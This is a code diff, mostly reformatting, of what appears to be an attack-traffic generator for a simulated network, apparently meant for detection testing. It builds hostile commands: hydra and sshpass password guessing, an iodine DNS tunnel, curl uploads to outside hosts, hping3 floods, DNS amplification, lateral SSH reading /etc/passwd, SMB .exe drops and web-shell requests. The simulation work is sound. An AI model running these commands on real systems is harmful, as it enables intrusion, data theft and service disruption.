@@ -32,7 +32,9 @@ def slow_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     ports = (21, 22, 23, 25, 80, 110, 139, 143, 389, 443, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080)
     after = 0.0
     while after < lasts:
-        yield o.step("slow-scan", "nc", "-z", "-w", "2", o.rng.choice(targets), str(o.rng.choice(ports)), after=after)
+        yield o.step(
+            "slow-scan", "ncat", "-z", "-w", "2", o.rng.choice(targets), str(o.rng.choice(ports)), after=after
+        )
         after += o.rng.uniform(2.0, 8.0) / attack.pace
 
 
@@ -46,12 +48,27 @@ def ssh_guessing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     listed = o.world.run.state / "files" / f"words-{o.actor.gid}"
     if listed.parent.is_dir():
         listed.write_text("\n".join(words[: int(24 * attack.pace)]) + "\n", encoding="utf-8")
-    yield o.step("ssh-guessing", "hydra", "-q", "-I", "-t", "4", "-l", name, "-P", str(listed), f"ssh://{found[0].address}", limit=lasts / 2)
+    yield o.step(
+        "ssh-guessing",
+        "hydra",
+        "-q",
+        "-I",
+        "-t",
+        "4",
+        "-l",
+        name,
+        "-P",
+        str(listed),
+        f"ssh://{found[0].address}",
+        limit=lasts / 2,
+    )
     after = lasts / 2
     while after < lasts - 1:
         options = ("-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no")
         target = f"{o.rng.choice((name, 'root', 'admin', o.rng.choice(people)))}@{found[1]}"
-        yield o.step("ssh-guessing", "sshpass", "-p", o.rng.choice(words), "ssh", *options, target, "id", after=after)
+        yield o.step(
+            "ssh-guessing", "sshpass", "-p", o.rng.choice(words), "ssh", *options, target, "id", after=after
+        )
         after += o.rng.uniform(0.7, 2.0) / attack.pace
 
 
@@ -62,7 +79,9 @@ def web_guessing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     after = 0.0
     while sites and after < lasts:
         who = f"{o.rng.choice(people)}:{o.rng.choice(('password', 'secret', 'winter'))}{o.rng.randrange(99)}"
-        yield o.curl("web-guessing", "-u", who, "-o", "/dev/null", f"https://{sites[0]}/private/p0.html", after=after)
+        yield o.curl(
+            "web-guessing", "-u", who, "-o", "/dev/null", f"https://{sites[0]}/private/p0.html", after=after
+        )
         after += o.rng.uniform(0.2, 0.9) / attack.pace
 
 
@@ -81,11 +100,37 @@ def dns_tunnel(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """iodine through the site's own resolver, and work done through it."""
     domain = tunnel_domain(o.world)
     resolver = o.world.offering("resolver")[0].address
-    tunnel = o.step("dns-tunnel", "iodine", "-f", "-r", "-m", "220", "-I", "8", "-P", "quiet-river", "-d", "tun7", resolver, domain, limit=lasts)
+    tunnel = o.step(
+        "dns-tunnel",
+        "iodine",
+        "-f",
+        "-r",
+        "-m",
+        "220",
+        "-I",
+        "8",
+        "-P",
+        "quiet-river",
+        "-d",
+        "tun7",
+        resolver,
+        domain,
+        limit=lasts,
+    )
     yield _as_root(tunnel)
     after = lasts * 0.3
     while after < lasts - 5:
-        yield o.step("dns-tunnel", "curl", "-s", "-m", "20", "-o", "/dev/null", f"http://10.199.0.1/p{o.rng.randrange(4)}.html", after=after)
+        yield o.step(
+            "dns-tunnel",
+            "curl",
+            "-s",
+            "-m",
+            "20",
+            "-o",
+            "/dev/null",
+            f"http://10.199.0.1/p{o.rng.randrange(4)}.html",
+            after=after,
+        )
         after += o.rng.uniform(8, 16) / attack.pace
 
 
@@ -118,7 +163,9 @@ def dns_beacon(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     after = 0.0
     while after < lasts:
         name = f"{''.join(o.rng.choices('abcdefghijklmnopqrstuvwxyz234567', k=o.rng.randrange(12, 32)))}.{domain}"
-        yield o.step("dns-beacon", "dig", "+tries=1", "+time=2", name, o.rng.choice(("A", "TXT")), after=after)
+        yield o.step(
+            "dns-beacon", "dig", "+tries=1", "+time=2", name, o.rng.choice(("A", "TXT")), after=after
+        )
         after += o.rng.uniform(3.0, 6.0) / attack.pace
 
 
@@ -133,7 +180,13 @@ def slow_upload(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     site = (o.world.bad_sites() or o.world.sites(inside=False))[0]
     after, number = 0.0, 0
     while after < lasts:
-        yield o.curl("slow-upload", "-T", o.world.file(o.rng.choice((4, 16))), f"https://{site}/files/b{number % 9}", after=after)
+        yield o.curl(
+            "slow-upload",
+            "-T",
+            o.world.file(o.rng.choice((4, 16))),
+            f"https://{site}/files/b{number % 9}",
+            after=after,
+        )
         after, number = after + o.rng.uniform(6.0, 14.0) / attack.pace, number + 1
 
 
@@ -142,7 +195,14 @@ def _pieces(o: Occasion, attack: Attack, lasts: float, url: str) -> Iterator[Ste
     count = max(1, attack.size_kb // piece)
     for number in range(count):
         after = number * lasts / count
-        yield o.curl("upload-tls", "-T", o.world.file(piece), f"{url}{o.rng.getrandbits(32):08x}", after=after, limit=max(60.0, lasts))
+        yield o.curl(
+            "upload-tls",
+            "-T",
+            o.world.file(piece),
+            f"{url}{o.rng.getrandbits(32):08x}",
+            after=after,
+            limit=max(60.0, lasts),
+        )
 
 
 def upload_ssh(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
@@ -172,19 +232,48 @@ def _flood(o: Occasion, attack: Attack, lasts: float, target: str, *argv: str) -
     """At most 100 packets a second at pace 1, and 5,000 in all."""
     pause = max(500, int(10_000 / attack.pace))
     count = min(5_000, int(lasts * 1e6 / pause))
-    yield _as_root(o.step(attack.kind, "hping3", "-q", "-n", "--ttl", "64", "-i", f"u{pause}", "-c", str(count), *argv, target, limit=lasts))
+    yield _as_root(
+        o.step(
+            attack.kind,
+            "hping3",
+            "-q",
+            "-n",
+            "--ttl",
+            "64",
+            "-i",
+            f"u{pause}",
+            "-c",
+            str(count),
+            *argv,
+            target,
+            limit=lasts,
+        )
+    )
 
 
 def syn_flood(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     if found := o.server("web"):
         ports = ("-s", str(o.rng.randrange(32_768, 55_000)))
-        yield from _flood(o, attack, lasts, found[0].address, "-S", "-p", "443", "-w", "64240", "--tcp-mss", "1460", *ports)
+        yield from _flood(
+            o, attack, lasts, found[0].address, "-S", "-p", "443", "-w", "64240", "--tcp-mss", "1460", *ports
+        )
 
 
 def udp_flood(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     targets = [h.address for h in o.world.hosts if h.inside and h.name != o.actor.host]
     ports = ("-s", str(o.rng.randrange(32_768, 55_000)))
-    yield from _flood(o, attack, lasts, o.rng.choice(targets), "-2", "-p", o.rng.choice(("53", "123", "8080")), "-d", str(o.rng.randrange(60, 900)), *ports)
+    yield from _flood(
+        o,
+        attack,
+        lasts,
+        o.rng.choice(targets),
+        "-2",
+        "-p",
+        o.rng.choice(("53", "123", "8080")),
+        "-d",
+        str(o.rng.randrange(60, 900)),
+        *ports,
+    )
 
 
 def amplification(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
@@ -192,7 +281,9 @@ def amplification(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     victims = [h.address for h in o.world.hosts if h.name != o.actor.host and "resolver" not in h.services]
     question = o.world.run.state / "files" / f"question-{o.actor.gid}"
     name = o.world.sites(inside=False)[0].split(".", 1)[1]
-    body = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01" + b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
+    body = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01" + b"".join(
+        bytes([len(p)]) + p.encode() for p in name.split(".")
+    )
     body += b"\x00\x00\xff\x00\x01" + b"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00"
     if question.parent.is_dir():
         question.write_bytes(body)
@@ -213,8 +304,8 @@ def lateral_ssh(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     while len(servers) > 1 and after < lasts:
         first, second = o.rng.sample(servers, k=2)
         order = o.rng.choice((
-            f"ssh {second} 'id; ls -la /home /etc; cat /etc/passwd'", f"scp -q /etc/services {second}:s", f"ssh {second} hostname; nc -z -w 2 {second} 5432",
-            f"for p in 22 80 445 3306 5432; do nc -z -w 1 {second} $p; done", f"curl -s -m 9 -T /etc/services http://{second}/x; ssh {second} uptime",
+            f"ssh {second} 'id; ls -la /home /etc; cat /etc/passwd'", f"scp -q /etc/services {second}:s", f"ssh {second} hostname; ncat -z -w 2 {second} 5432",
+            f"for p in 22 80 445 3306 5432; do ncat -z -w 1 {second} $p; done", f"curl -s -m 9 -T /etc/services http://{second}/x; ssh {second} uptime",
         ))  # fmt: skip
         yield o.step("lateral-ssh", "ssh", f"{o.actor.name}@{first}", order, after=after, limit=40)
         after += o.rng.uniform(4.0, 15.0) / attack.pace
@@ -231,7 +322,17 @@ def lateral_smb(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
         name = o.rng.choice(people)
         word = o.world.password(name) if o.rng.random() < 0.3 else f"Winter{o.rng.randrange(2020, 2027)}"
         order = o.rng.choice(("ls", f"put {o.world.file(16)} svc{o.rng.randrange(99)}.exe", "recurse; ls"))
-        yield o.step("lateral-smb", "smbclient", f"//{host.address}/public", "-U", f"{name}%{word}", "-c", order, after=after, limit=20)
+        yield o.step(
+            "lateral-smb",
+            "smbclient",
+            f"//{host.address}/public",
+            "-U",
+            f"{name}%{word}",
+            "-c",
+            order,
+            after=after,
+            limit=20,
+        )
         after += o.rng.uniform(1.0, 6.0) / attack.pace
 
 
@@ -246,8 +347,18 @@ def web_shell(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     yield o.curl("web-shell", "-T", o.world.file(4), f"https://{site}/files/help{o.rng.randrange(99)}.php")
     after = 3.0
     while after < lasts:
-        order = "".join(o.rng.choices("ABCDEFGHIJKLMNOPabcdefghijklmnop0123456789+/", k=o.rng.choice((24, 60, 200, 1500))))
-        yield o.curl("web-shell", "-o", "/dev/null", "-d", f"z0={order}", f"{o.rng.choice(('https', 'http'))}://{site}/api/help.php", after=after)
+        order = "".join(
+            o.rng.choices("ABCDEFGHIJKLMNOPabcdefghijklmnop0123456789+/", k=o.rng.choice((24, 60, 200, 1500)))
+        )
+        yield o.curl(
+            "web-shell",
+            "-o",
+            "/dev/null",
+            "-d",
+            f"z0={order}",
+            f"{o.rng.choice(('https', 'http'))}://{site}/api/help.php",
+            after=after,
+        )
         after += o.rng.lognormvariate(1.2, 0.7) / attack.pace
 
 
@@ -255,7 +366,15 @@ def modbus_writes(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     """Values that no operator would set."""
     after = 0.0
     while (found := o.server("modbus")) and after < lasts:
-        argv = ("/usr/bin/python3", str(PROGRAMS / "poll.py"), "flood", found[0].address, str(o.rng.choice((3, 10, 40))), "0.2", str(o.rng.random()))
+        argv = (
+            "/usr/bin/python3",
+            str(PROGRAMS / "poll.py"),
+            "flood",
+            found[0].address,
+            str(o.rng.choice((3, 10, 40))),
+            "0.2",
+            str(o.rng.random()),
+        )
         yield o.step("modbus-writes", *argv, after=after, limit=30)
         after += o.rng.uniform(4.0, 20.0) / attack.pace
 
@@ -268,11 +387,11 @@ def junk_bytes(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
         host = o.rng.choice(servers)
         port = str(o.rng.choice((22, 25, 53, 80, 443, 445, 502, 1883, 5432)))
         if o.rng.random() < 0.2:
-            argv = ("hping3", "-q", "-n", "--ttl", "64", "-w", "64240", "-c", "3", *o.rng.choice((("-F", "-P", "-U"), ("-S", "-F"), ("-A", "-R"))), "-p", port, host.address)  # fmt: skip
+            argv = ("hping3", "-q", "-n", "--ttl", "64", "-w", "64240", "-c", "3", "-s", str(o.rng.randrange(32_768, 60_000)), *o.rng.choice((("-F", "-P", "-U"), ("-S", "-F"), ("-A", "-R"))), "-p", port, host.address)  # fmt: skip
             yield _as_root(o.step("junk-bytes", *argv, after=after))
         else:
             junk = "".join(chr(o.rng.randrange(1, 256)) for _ in range(int(o.rng.lognormvariate(4, 1.5)) + 1))
-            yield o.step("junk-bytes", "nc", "-N", "-w", "2", host.address, port, after=after, feed=junk)
+            yield o.step("junk-bytes", "ncat", "-w", "2", host.address, port, after=after, feed=junk)
         after += o.rng.uniform(0.5, 4.0) / attack.pace
 
 
